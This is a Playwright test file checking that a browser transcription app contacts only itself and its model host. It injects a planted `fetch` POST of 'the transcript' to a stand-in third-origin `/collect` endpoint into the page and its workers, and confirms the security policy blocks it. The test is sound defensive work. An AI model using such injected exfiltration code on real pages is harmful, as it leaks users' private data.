import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import AxeBuilder from '@axe-core/playwright';
import { chromium, expect, test } from '@playwright/test';
import { pageHeaderPolicy, SCRIPT_HEADER_POLICY } from '../src/core/network-policy';
import { sentence } from '../tools/testing/speech';
import { startModelHost } from '../tools/model-host/model-host.mjs';
import { startRecordingProxy } from './fixtures/recording-proxy';
import { conversationFile } from './fixtures/speech-files';
import { TEST_TRANSLATOR, TEST_WHISPER } from './fixtures/test-models';
import { AppPage } from './pages/app-page';

const executablePath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

/** A server on another origin that would gladly answer anyone: it only counts what reaches it. */
async function thirdOrigin(): Promise<{ server: Server; origin: string; received: string[] }> {
  const received: string[] = [];
  const server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    res.end('ok');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    server,
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
  };
}

/** Posts a transcript to `target` from wherever it runs; says how that ended. */
const plantedPost = async (target: string) => {
  const violations: string[] = [];
  const seen = (e: Event) => violations.push((e as SecurityPolicyViolationEvent).blockedURI);
  self.addEventListener('securitypolicyviolation', seen);
  let outcome: string;
  try {
    const answer = await fetch(`${target}/collect`, { method: 'POST', body: 'the transcript' });
    outcome = `answered ${answer.status}`;
  } catch (error) {
    outcome = `failed: ${String(error)}`;
  }
  // The violation event is queued as a task: let it arrive.
  await new Promise((done) => setTimeout(done, 100));
  self.removeEventListener('securitypolicyviolation', seen);
  return {
    name: (self as { name?: string }).name ?? '',
    at: self.location.href,
    outcome,
    violations,
  };
};

test.describe('privacy', () => {
  test('a transcription with speakers and translation contacts only the app and the model host, as its Network note says; a post planted in the page or a worker is blocked', async ({
    baseURL,
  }, info) => {
    test.setTimeout(300_000);
    mkdirSync(info.outputDir, { recursive: true });
    const talk = conversationFile(info.outputDir, 'two-voices', [
      { variant: 'm3', text: sentence('en', 5101, 9) },
      { variant: 'f5', text: sentence('en', 5102, 9) },
      { variant: 'm3', text: sentence('en', 5103, 9) },
    ]);
    const modelHost = await startModelHost('.models');
    const hostOrigin = `http://127.0.0.1:${(modelHost.address() as AddressInfo).port}`;
    const third = await thirdOrigin();
    const proxy = await startRecordingProxy();
    const browser = await chromium.launch({
      executablePath,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    try {
      // The proxy is the context's: the browser's own services (its updater) stay out of the
      // record, everything the app's pages and workers send is in it. Loopback addresses skip
      // a proxy unless told otherwise.
      // A context of its own, as axe-core needs.
      const context = await browser.newContext({
        proxy: { server: `http://127.0.0.1:${proxy.port}`, bypass: '<-loopback>' },
        baseURL: baseURL!,
        viewport: { width: 1366, height: 900 },
      });
      const page = await context.newPage();
      const link = new URLSearchParams({
        models: `${hostOrigin}/`,
        model: TEST_WHISPER,
        translation: TEST_TRANSLATOR,
        segmentation: 'murmur-test/segmentation-synth',
        embedding: 'murmur-test/embedding-synth',
      });
      await page.goto(`/?${link}`);
      const app = new AppPage(page);
      await app.byId('form.submit').waitFor();

      await app.chooseFile(talk.path);
      await app.toggle('toggle_diarization');
      await app.fill('diarization_num_speakers', '2');
      await app.toggle('toggle_direct_translate');
      await app.fill('target_translation_language', 'french');
      await app.submit();
      await app.expectResult(240_000);
      await expect(app.byId('timeline.lane')).toHaveCount(2);
      const languages = await app.byId('result.segment-language').allInnerTexts();
      expect(languages.length).toBeGreaterThan(0);
      expect(languages.every((l) => l.trim().toLowerCase() === 'fr')).toBe(true);

      // The recorder saw the workers' downloads: the model files come from the model host, and
      // only the workers ask for them.
      // The browser's own form-filling service asks Google about the page's fields (a tunnel
      // the recorder refuses); the page's code has no part in it.
      const pageRequests = proxy.requests.filter(
        (r) => !(r.method === 'CONNECT' && r.url === 'content-autofill.googleapis.com:443'),
      );
      const hosts = new Set(pageRequests.map((r) => new URL(r.url).origin));
      expect([...hosts].sort()).toEqual([baseURL!, hostOrigin].sort());
      const modelFiles = proxy.requests.filter((r) => r.url.startsWith(hostOrigin));
      for (const model of [TEST_WHISPER, TEST_TRANSLATOR, 'murmur-test/embedding-synth'])
        expect(modelFiles.some((r) => r.url.includes(`/${model}/resolve/`))).toBe(true);
      // The service worker is there, and what it fetched went through the recorder too.
      expect(proxy.requests.some((r) => r.url === `${baseURL}/sw.js`)).toBe(true);

      // The Network note beside the result says as much: as many model files (and requests for
      // them) as the recorder saw the model host serve, the app's own files, nothing elsewhere.
      const hostName = new URL(hostOrigin).host.replace(/\./g, '\\.');
      // The rest are HEADs: the Models list asks the host the sizes of models the catalogue has
      // no size for, as the page opens and after a transcription, outside the note's count.
      const fetched = modelFiles.filter((r) => r.method === 'GET');
      expect(modelFiles.filter((r) => r.method !== 'GET').every((r) => r.method === 'HEAD')).toBe(
        true,
      );
      const served = new Set(fetched.map((r) => r.url)).size;
      const asked = served === fetched.length ? '' : ` \\(${fetched.length} requests\\)`;
      const note = app.byId('result.network-note');
      await expect(note).toHaveText(
        new RegExp(
          `^${served} model files from ${hostName}${asked}, [1-9]\\d* files from this app, 0 requests elsewhere; nothing was sent$`,
        ),
      );
      await expect(app.byId('result.network')).toContainText('Network: ');
      // It reads well in both themes, on a laptop and on a phone (axe-core finds nothing in it,
      // nor in the translated segments' originals above it), and fits the screen.
      for (const colorScheme of ['light', 'dark'] as const) {
        for (const viewport of [
          { width: 1366, height: 900 },
          { width: 390, height: 844 },
        ]) {
          await page.emulateMedia({ colorScheme });
          await page.setViewportSize(viewport);
          await app.byId('result.network').scrollIntoViewIfNeeded();
          const where = `${colorScheme}, ${viewport.width} px`;
          const { violations } = await new AxeBuilder({ page })
            .include('[data-testid="result.network"]')
            .include('[data-testid="result.segment-original"]')
            .analyze();
          expect(
            violations.map((v) => `${v.id} (${v.impact})`),
            where,
          ).toEqual([]);
          const box = await app.byId('result.network').boundingBox();
          expect(box!.x + box!.width, where).toBeLessThanOrEqual(viewport.width);
        }
      }

      // A post planted in the page is refused by the policy before it leaves the browser.
      const inPage = await page.evaluate(plantedPost, third.origin);
      expect(inPage.outcome).toMatch(/^failed: TypeError/);
      expect(inPage.violations).toEqual([`${third.origin}/collect`]);

      // So is one planted in each of the page's workers: the app's own, ffmpeg's. (onnxruntime's
      // threads wait on shared memory between jobs and answer nothing meanwhile.)
      const answered: string[] = [];
      for (const worker of page.workers()) {
        const attempt = worker.evaluate(plantedPost, third.origin).catch(() => null);
        const inWorker = await Promise.race([
          attempt,
          new Promise<null>((done) => setTimeout(() => done(null), 10_000)),
        ]);
        if (inWorker === null) continue;
        // A worker started from a `blob:` wrapper names its real script in its `location`.
        answered.push(inWorker.name || inWorker.at);
        expect(inWorker.outcome, worker.url()).toMatch(/^failed: TypeError/);
        expect(inWorker.violations, worker.url()).toEqual([`${third.origin}/collect`]);
      }
      expect(answered.some((n) => n.startsWith('murmur-transcription-worker-'))).toBe(true);
      expect(answered.some((n) => n.startsWith('murmur-speech-worker-'))).toBe(true);
      expect(answered.some((n) => /\/assets\/ffmpeg\.worker-[\w-]+\.js$/.test(n))).toBe(true);

      expect(third.received).toEqual([]);
      expect(proxy.requests.filter((r) => r.url.startsWith(third.origin))).toEqual([]);

      // Reopened, the page transcribes again from the models this browser kept: the model host
      // hears nothing, and the note says where the models came from.
      const downloads = () =>
        proxy.requests.filter((r) => r.url.startsWith(hostOrigin) && r.method !== 'HEAD').length;
      const downloadsBefore = downloads();
      await page.reload();
      await app.byId('form.submit').waitFor();
      await app.chooseFile(talk.path);
      await app.submit();
      await expect(note).toHaveText(
        new RegExp(
          `^0 model files from ${hostName} \\(the models were already in this browser\\), \\d+ files from this app, 0 requests elsewhere; nothing was sent$`,
        ),
        { timeout: 240_000 },
      );
      expect(downloads()).toBe(downloadsBefore);
    } finally {
      await browser.close();
      await proxy.close();
      third.server.close();
      modelHost.close();
    }
  });

  test('the server sends the policy to a page and to the script of a worker, whether or not the browser says what it fetches', async ({
    request,
  }) => {
    const policyOf = async (path: string, dest?: string) =>
      (await request.get(path, dest ? { headers: { 'Sec-Fetch-Dest': dest } } : {})).headers()[
        'content-security-policy'
      ];
    expect(await policyOf('/', 'document')).toBe(pageHeaderPolicy());
    expect(await policyOf('/sw.js', 'serviceworker')).toBe(SCRIPT_HEADER_POLICY);
    // Without the header (older browsers), by file type, as a static host sends them.
    expect(await policyOf('/')).toBe(pageHeaderPolicy());
    expect(await policyOf('/sw.js')).toBe(SCRIPT_HEADER_POLICY);
    // A script the page imports needs none of its own: the page's policy governs it.
    expect(await policyOf('/sw.js', 'script')).toBeUndefined();
  });
});
